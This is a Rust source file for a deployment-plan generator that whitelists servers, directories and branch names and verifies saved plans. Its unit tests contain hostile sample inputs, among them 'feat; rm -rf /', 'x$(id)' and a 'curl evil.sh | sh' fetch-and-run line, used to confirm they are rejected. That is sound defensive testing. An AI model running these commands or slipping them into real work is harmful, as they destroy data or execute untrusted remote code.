//! Deployment plan generation.
//!
//! A plan is the reviewed, ordered command list for one server/directory/branch.
//! Generating one validates the request against the server whitelist and never
//! touches the network.

use chrono::{SecondsFormat, Utc};
use regex::Regex;
use serde::{Deserialize, Serialize};
use std::sync::OnceLock;

use crate::config::ServersConfig;
use crate::error::{Error, Result};
use crate::utils::validation;

/// Parent directory of every deployed application on the remote host.
pub const BASE_DIRECTORY: &str = "/var/webs";

/// Branch merged into the working tree before the target branch.
pub const MAIN_BRANCH: &str = "main";

/// Accepted branch names. Anything that could break out of a shell word is rejected.
pub const BRANCH_PATTERN: &str = r"^[a-zA-Z0-9_./-]+$";

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct DeploymentPlan {
    pub server_key: String,
    pub directory: String,
    pub branch: String,
    pub commands: Vec<String>,
    pub ssh_host: String,
    pub created_at: String,
}

pub fn app_path(directory: &str) -> String {
    format!("{}/{}", BASE_DIRECTORY, directory)
}

fn branch_regex() -> &'static Regex {
    static BRANCH: OnceLock<Regex> = OnceLock::new();
    BRANCH.get_or_init(|| Regex::new(BRANCH_PATTERN).expect("branch pattern must compile"))
}

pub fn is_valid_branch(branch: &str) -> bool {
    branch_regex().is_match(branch)
}

/// Validate a server update request and build its plan.
///
/// Checks run in order: server key is configured, directory is whitelisted for
/// that server, branch name is well-formed, server has an SSH host.
pub fn plan_update(
    server_key: &str,
    directory: &str,
    branch: &str,
    config: &ServersConfig,
) -> Result<DeploymentPlan> {
    let server_key = validation::require_non_empty(server_key, "Server key")?;
    let server = config
        .get(server_key)
        .ok_or_else(|| Error::server_not_found(server_key, config.keys()))?;

    let directory = validation::require_non_empty(directory, "Directory")?;
    if !server.allows(directory) {
        return Err(Error::deploy_directory_not_allowed(
            server_key,
            directory,
            server.allowed_directories.clone(),
        ));
    }

    let branch = validation::require_non_empty(branch, "Branch name")?;
    if !is_valid_branch(branch) {
        return Err(Error::deploy_branch_invalid(branch, BRANCH_PATTERN));
    }

    if server.ssh_host.trim().is_empty() {
        return Err(Error::server_no_ssh_host(server_key));
    }

    let commands = update_commands(directory, branch);
    log_status!(
        "plan",
        "Plan created for {} ({}, {}): {} commands",
        server_key,
        directory,
        branch,
        commands.len()
    );

    Ok(DeploymentPlan {
        server_key: server_key.to_string(),
        directory: directory.to_string(),
        branch: branch.to_string(),
        commands,
        ssh_host: server.ssh_host.clone(),
        created_at: Utc::now().to_rfc3339_opts(SecondsFormat::Millis, true),
    })
}

/// Check a saved plan against the current whitelist before running it.
///
/// The plan is regenerated from its server, directory, and branch; the host
/// and the command list must match exactly.
pub fn verify_plan(plan: &DeploymentPlan, config: &ServersConfig) -> Result<()> {
    let expected = plan_update(&plan.server_key, &plan.directory, &plan.branch, config)?;

    if plan.ssh_host != expected.ssh_host {
        return Err(Error::validation_invalid_argument(
            "plan.sshHost",
            format!(
                "Plan targets \"{}\" but server \"{}\" is configured with \"{}\"",
                plan.ssh_host, plan.server_key, expected.ssh_host
            ),
            Some(plan.server_key.clone()),
            None,
        ));
    }

    if plan.commands != expected.commands {
        return Err(Error::validation_invalid_argument(
            "plan.commands",
            "Plan commands do not match the server update template",
            Some(plan.server_key.clone()),
            None,
        )
        .with_hint("Regenerate the plan with 'railyard plan'"));
    }

    Ok(())
}

/// The fixed server update template for `directory` and `branch`.
pub fn update_commands(directory: &str, branch: &str) -> Vec<String> {
    vec![
        format!("cd {}", app_path(directory)),
        "git fetch origin".to_string(),
        "git stash".to_string(),
        format!("git checkout {}", MAIN_BRANCH),
        format!("git pull origin {}", MAIN_BRANCH),
        format!("git checkout {}", branch),
        format!("git pull origin {}", branch),
        "git stash pop || true".to_string(),
        "rails db:migrate".to_string(),
        "rails assets:clobber".to_string(),
        "rails assets:precompile".to_string(),
        format!("sudo systemctl restart {}.service", directory),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::ServerConfig;
    use crate::error::ErrorCode;

    fn config() -> ServersConfig {
        ServersConfig::from_servers([
            (
                "prod1",
                ServerConfig::new("deploy@prod1", vec!["shop".to_string(), "blog".to_string()]),
            ),
            ("bare", ServerConfig::new("", vec!["shop".to_string()])),
        ])
    }

    #[test]
    fn plan_uses_template_with_directory_and_branch() {
        let plan = plan_update("prod1", "shop", "feature/cart-v2", &config()).unwrap();

        assert_eq!(plan.ssh_host, "deploy@prod1");
        assert_eq!(plan.commands.len(), 12);
        assert_eq!(plan.commands[0], "cd /var/webs/shop");
        assert_eq!(plan.commands[3], "git checkout main");
        assert_eq!(plan.commands[5], "git checkout feature/cart-v2");
        assert_eq!(plan.commands[6], "git pull origin feature/cart-v2");
        assert_eq!(plan.commands[7], "git stash pop || true");
        assert_eq!(plan.commands[11], "sudo systemctl restart shop.service");
    }

    #[test]
    fn commands_are_deterministic() {
        let a = plan_update("prod1", "blog", "release-1.2", &config()).unwrap();
        let b = plan_update("prod1", "blog", "release-1.2", &config()).unwrap();
        assert_eq!(a.commands, b.commands);
    }

    #[test]
    fn unknown_server_lists_available() {
        let err = plan_update("prod9", "shop", "main", &config()).unwrap_err();
        assert_eq!(err.code, ErrorCode::ServerNotFound);
        assert!(err.message.contains("bare, prod1"));
    }

    #[test]
    fn directory_must_be_whitelisted() {
        let err = plan_update("prod1", "admin", "main", &config()).unwrap_err();
        assert_eq!(err.code, ErrorCode::DeployDirectoryNotAllowed);
    }

    #[test]
    fn unsafe_branch_names_are_rejected() {
        for branch in ["feat; rm -rf /", "a b", "x$(id)", "it's", "a&&b"] {
            let err = plan_update("prod1", "shop", branch, &config()).unwrap_err();
            assert_eq!(err.code, ErrorCode::DeployBranchInvalid, "branch {:?}", branch);
        }
    }

    #[test]
    fn empty_branch_is_a_validation_error() {
        let err = plan_update("prod1", "shop", "  ", &config()).unwrap_err();
        assert_eq!(err.code, ErrorCode::ValidationInvalidArgument);
    }

    #[test]
    fn server_without_host_is_rejected() {
        let err = plan_update("bare", "shop", "main", &config()).unwrap_err();
        assert_eq!(err.code, ErrorCode::ServerNoSshHost);
    }

    #[test]
    fn verify_plan_accepts_generated_plan() {
        let plan = plan_update("prod1", "shop", "main", &config()).unwrap();
        assert!(verify_plan(&plan, &config()).is_ok());
    }

    #[test]
    fn verify_plan_rejects_edited_commands() {
        let mut plan = plan_update("prod1", "shop", "main", &config()).unwrap();
        plan.commands.push("curl evil.sh | sh".to_string());

        let err = verify_plan(&plan, &config()).unwrap_err();
        assert_eq!(err.details["field"], "plan.commands");
    }

    #[test]
    fn verify_plan_rejects_retargeted_host() {
        let mut plan = plan_update("prod1", "shop", "main", &config()).unwrap();
        plan.ssh_host = "attacker".to_string();

        let err = verify_plan(&plan, &config()).unwrap_err();
        assert_eq!(err.details["field"], "plan.sshHost");
    }

    #[test]
    fn plan_round_trips_through_json() {
        let plan = plan_update("prod1", "shop", "main", &config()).unwrap();
        let json = serde_json::to_value(&plan).unwrap();
        assert_eq!(json["serverKey"], "prod1");
        assert_eq!(json["sshHost"], "deploy@prod1");

        let back: DeploymentPlan = serde_json::from_value(json).unwrap();
        assert_eq!(back, plan);
    }
}
